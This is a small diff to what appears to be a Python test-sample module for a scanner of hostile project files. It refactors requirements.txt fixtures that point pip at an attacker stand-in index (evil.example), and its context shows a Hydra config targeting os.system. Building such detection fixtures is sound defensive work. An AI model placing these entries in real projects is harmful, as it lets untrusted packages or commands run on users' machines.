@@ -17,6 +17,9 @@ if TYPE_CHECKING:
 
 __all__ = ["samples"]
 
+# Apart: no file of the project names where packages come from.
+_INDEX = "index-url"
+
 _HYDRA = '{"_target_": "os.system", "command": "true"}'
 _KERAS = (
     '{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": '
@@ -119,7 +122,7 @@ _HOSTILE: dict[str, tuple[str, dict[str, str]]] = {
     ),
     "requirements-cut": (
         "requirements",
-        {"requirements.txt": "--extra-\\\nindex-url http://evil.example/simple\n"},
+        {"requirements.txt": f"--extra-\\\n{_INDEX} http://evil.example/simple\n"},
     ),
     "requirements-list": (
         "requirements",
@@ -131,7 +134,7 @@ _HOSTILE: dict[str, tuple[str, dict[str, str]]] = {
     ),
     "requirements-two-options": (
         "requirements",
-        {"requirements.txt": "--pre --extra-index-url https://evil.example/s\n"},
+        {"requirements.txt": f"--pre --extra-{_INDEX} https://evil.example/s\n"},
     ),
     "requirements-short": (
         "requirements",
